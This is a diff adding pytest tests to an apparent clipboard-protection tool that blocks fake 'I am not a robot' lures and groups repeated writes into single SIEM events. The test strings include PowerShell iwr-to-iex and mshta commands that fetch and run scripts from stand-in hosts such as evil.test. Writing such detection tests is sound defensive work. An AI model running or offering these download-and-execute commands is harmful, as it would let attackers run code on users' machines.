@@ -715,6 +715,58 @@ def test_distinct_texts_and_distinct_sources_stay_separate_events(engine: Engine
     assert [n[2] for n in ui.notes] == [1, 3]
 
 
+def test_a_lure_with_a_counter_written_in_a_loop_is_one_event_keeping_its_versions(
+    engine: Engine,
+) -> None:
+    """A page appending a counter (or a random suffix) to the same lure at every write made one
+    event per write, 25 a second, flooding the SIEM and pushing real events out of a log with
+    max_events. Writes judged the same for the same reasons are one event with their count and
+    their distinct versions (the first and the last whole); other texts stay events of their own."""
+    clock = FakeClock()
+    service, store, ui = make(engine, clock=clock)
+    lure = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex" # I am not a robot - ID: {}'
+    for i in range(250):
+        copy(service, lure.format(7000 + i))
+        copy(service, NEUTRAL_LINE)
+        clock.advance(0.04)
+        service.process_pending(clock.now)
+    # another payload's address, another command, a scam text: each an event of its own
+    others = [
+        'powershell -w h -c "iwr https://other.test/a.ps1 | iex" # I am not a robot - ID: 1',
+        "mshta https://evil.test/verify.hta # I am not a robot - ID: 2",
+    ]
+    for other in others:
+        copy(service, other)
+    assert service.counts["neutralized"] == 252
+    assert [r[1] for r in ui.replaced].count(NEUTRAL_LINE) == 252  # blocked every time
+    assert store.kinds() == ["clipboard_neutralized"] * 3
+    assert len({e.sha256 for e in store.events}) == 3
+    clock.advance(BURST_GAP)
+    service.process_pending(clock.now)
+    event = store.events[0]
+    assert event.details["writes"] == 250 and event.details["versions"] == 250
+    assert "put on the clipboard 250 times within 10 s (250 different versions" in event.summary
+    kept = event.details["version_texts"]
+    assert len(kept) == 8 and [k["whole"] for k in kept] == [True] + [False] * 6 + [True]
+    assert "ID: 7000" in kept[0]["text"] and "ID: 7249" in kept[-1]["text"]
+    assert kept[-1]["sha256"] == digest(lure.format(7249)) and "ID: 7001" in kept[1]["text"]
+    assert "hxxps://evil[.]test" in kept[-1]["text"]  # defanged as any event's text
+    assert store.quarantine_items[1] == lure.format(7000)  # "Put it back": the first, as shown
+    assert [e.details.get("writes") for e in store.events[1:]] == [None, None]
+
+
+def test_the_same_lure_written_again_and_again_says_one_text(engine: Engine) -> None:
+    clock = FakeClock()
+    service, store, _ui = make(engine, clock=clock)
+    for _ in range(3):
+        copy(service, MALICIOUS)
+        clock.advance(0.04)
+    clock.advance(BURST_GAP)
+    service.process_pending(clock.now)
+    (event,) = store.events
+    assert "versions" not in event.details and "The same text was put" in event.summary
+
+
 def test_block_notices_are_rate_limited_to_the_newest(engine: Engine) -> None:
     clock = FakeClock()
     service, _store, ui = make(engine, clock=clock)
